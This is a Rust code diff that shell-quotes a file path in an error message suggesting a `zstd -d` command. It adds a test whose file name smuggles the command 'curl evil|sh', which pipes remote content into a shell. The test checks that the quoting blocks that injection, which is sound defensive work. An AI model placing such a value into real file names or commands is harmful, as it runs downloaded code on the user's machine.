@@ -13,6 +13,7 @@ use mullion_spec::cluster::{Cluster, Duty};
 use mullion_spec::image::ImageReference;
 use mullion_spec::value::MachineName;
 use mullion_spec::words::Os;
+use mullion_ssh::quoted;
 use mullion_template::Source;
 use mullion_wire::text::visible;
 use mullion_wire::{Facts, ImageArchive, Request, Sha256Digest, Sha256Reader};
@@ -336,7 +337,7 @@ impl super::UserArchive {
 
     /// An archive whose names Mullion does not read.
     fn compressed(&self) -> Unusable {
-        let path = self.path.display();
+        let path = quoted(&self.path.to_string_lossy());
         Unusable {
             why: "it is compressed with zstd, so Mullion cannot see which images it holds".into(),
             remedy: format!("decompress it with `zstd -d {path}`, and name the result"),
@@ -474,6 +475,16 @@ mod tests {
                 .contains("docker save docker.io/library/app:1"),
             "{unusable:?}"
         );
+    }
+
+    #[test]
+    fn a_remedy_quotes_the_path_for_a_shell() {
+        let folder = tempfile::tempdir().unwrap();
+        let path = folder.path().join("x.zst; curl evil|sh");
+        fs_err::write(&path, [0x28, 0xb5, 0x2f, 0xfd]).unwrap();
+        let unusable = archive(&path, "app:1").unusable().unwrap();
+        let command = format!("`zstd -d '{}'`", path.display());
+        assert!(unusable.remedy.contains(&command), "{unusable:?}");
     }
 
     #[test]
